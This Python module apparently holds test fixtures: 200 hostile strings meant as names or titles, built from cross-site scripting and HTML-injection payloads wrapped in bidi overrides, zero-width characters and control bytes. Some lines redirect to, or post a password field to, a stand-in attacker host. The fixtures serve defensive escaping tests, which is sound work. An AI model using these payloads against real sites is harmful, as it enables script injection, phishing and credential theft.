"""Two hundred texts that nobody should be called, and nothing should be titled."""

from __future__ import annotations

_MARKUP = (
    "<script>pwned = 1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:pwned=1'>win</a>",
    "<style>* { display: none }</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password></form>",
    "<button data-do=leave>Play</button>",
    "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<math><mtext></table><mglyph><style><img src onerror=pwned=1>",
    "<template><script>pwned=1</script></template>",
    "</p></div></main></body></html>",
    "</title></textarea></script></style>",
    "<!-- --!> -->",
    "<![CDATA[ ]]>",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "&lt;script&gt;&#112;wned=1&amp;quot;",
    "\" onmouseover=pwned=1 x='",
    "`${pwned=1}` {{pwned=1}} ${{pwned=1}}",
)
_AROUND = (
    ("", ""),
    ("QH 7S ", " 10D"),
    ("\u202e", ""),
    ("\u2067\u2066", "\u2069"),
    ("a\u200b\u200d\ufeff", "\u00ad"),
    ("\u0301" * 40, ""),
    ("W" * 300, "W" * 300),
    ("\x1b[31m\x00\x07", "\u2028\u2029"),
)
PAYLOADS = tuple(before + each + after for each in _MARKUP for before, after in _AROUND)
